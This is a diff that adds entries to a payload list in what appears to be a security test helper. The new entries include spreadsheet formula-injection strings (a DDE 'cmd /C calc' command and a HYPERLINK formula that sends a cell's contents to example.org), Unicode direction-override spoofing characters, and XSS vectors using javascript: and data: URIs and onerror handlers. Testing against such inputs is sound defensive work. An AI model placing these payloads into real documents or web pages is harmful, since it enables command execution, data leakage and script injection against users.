@@ -44,6 +44,18 @@ def payloads(marker: Path) -> list[str]:
         "</body></head></html><h1>gone</h1>",
         "https://example.org/x.js' src='https://example.org/y.js",
         r"\g<0>\1 \n %s {0} {name}",
+        "=1+1",
+        '=HYPERLINK("http://example.org/?x="&A1;"x")',
+        "+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(A1:A9)",
+        "\t=1+1",
+        "\u202etxt.exe\u202c \u2067x\u2069 \u200f\ufeff",
+        f"{'a' * 300} <img src=x onerror={ran}> {'b' * 300}",
+        f"$\\href{{javascript:{ran}}}{{x}}$ $$\\unicode{{x}}$$",
+        f"javascript:{ran}",
+        f"data:text/html,<script>{ran}</script>",
+        f"[x](javascript:{ran}) **b** <{ran}>",
     ]
 
 
